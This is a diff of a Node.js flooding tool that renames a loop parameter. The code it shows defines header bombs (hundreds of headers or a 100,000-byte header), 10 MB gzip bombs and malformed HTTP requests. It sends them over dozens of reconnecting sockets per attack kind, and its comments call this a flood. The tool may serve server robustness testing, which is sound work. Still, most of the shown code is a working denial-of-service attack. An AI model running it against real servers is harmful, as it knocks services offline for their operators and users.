@@ -67,14 +67,14 @@ const KINDS = {
   },
   'header bombs': {
     connections: 64,
-    next: (turn) =>
-      turn % 2 === 0 ? whole(ORDER, manyHeaders(450)) : head([`x-bomb: ${'z'.repeat(100_000)}`, 'content-length: 0']),
+    next: (index) =>
+      index % 2 === 0 ? whole(ORDER, manyHeaders(450)) : head([`x-bomb: ${'z'.repeat(100_000)}`, 'content-length: 0']),
   },
   'gzip bombs': {
     connections: 32,
     next: () => whole(gzipSync(Buffer.alloc(10 * MB)), ['content-encoding: gzip']),
   },
-  'malformed HTTP': { connections: 64, next: (turn) => MALFORMED[turn % MALFORMED.length], once: true },
+  'malformed HTTP': { connections: 64, next: (index) => MALFORMED[index % MALFORMED.length], once: true },
 };
 
 /** Requests made beforehand: the attacker's processor time belongs to the flood. */
@@ -93,7 +93,7 @@ function pump(socket, left, frame) {
   }
 }
 
-function attack({ host, port }, { supply, stream = 0, frame: toFrame = (chunk) => chunk, once = false }, turn) {
+function attack({ host, port }, { supply, stream = 0, frame: toFrame = (chunk) => chunk, once = false }, index) {
   if (!isOn) return;
   const socket = connect(port, host);
   const frame = toFrame(CHUNK);
@@ -101,7 +101,7 @@ function attack({ host, port }, { supply, stream = 0, frame: toFrame = (chunk) =
   socket.setNoDelay(true).setTimeout(PATIENCE_MS, () => socket.destroy());
   const send = () => {
     counts.requests += 1;
-    socket.write(supply[turn++ % supply.length]);
+    socket.write(supply[index++ % supply.length]);
     pump(socket, stream, frame);
   };
   socket.on('connect', send);
@@ -114,7 +114,7 @@ function attack({ host, port }, { supply, stream = 0, frame: toFrame = (chunk) =
   socket.on('close', () => {
     open.delete(socket);
     // Not at once: a refused connection must not make this a loop without a pause.
-    setImmediate(attack, { host, port }, { supply, stream, frame: toFrame, once }, turn);
+    setImmediate(attack, { host, port }, { supply, stream, frame: toFrame, once }, index);
   });
 }
 
@@ -124,7 +124,7 @@ function begin({ url, kinds }) {
   counts = { requests: 0, answers: {} };
   for (const name of kinds) {
     const { next, connections, ...kind } = KINDS[name];
-    const supply = Array.from({ length: SUPPLY }, (_, turn) => next(turn));
+    const supply = Array.from({ length: SUPPLY }, (_, index) => next(index));
     for (let each = 0; each < connections; each += 1) attack({ host, port }, { ...kind, supply }, each);
   }
   return { connections: open.size };
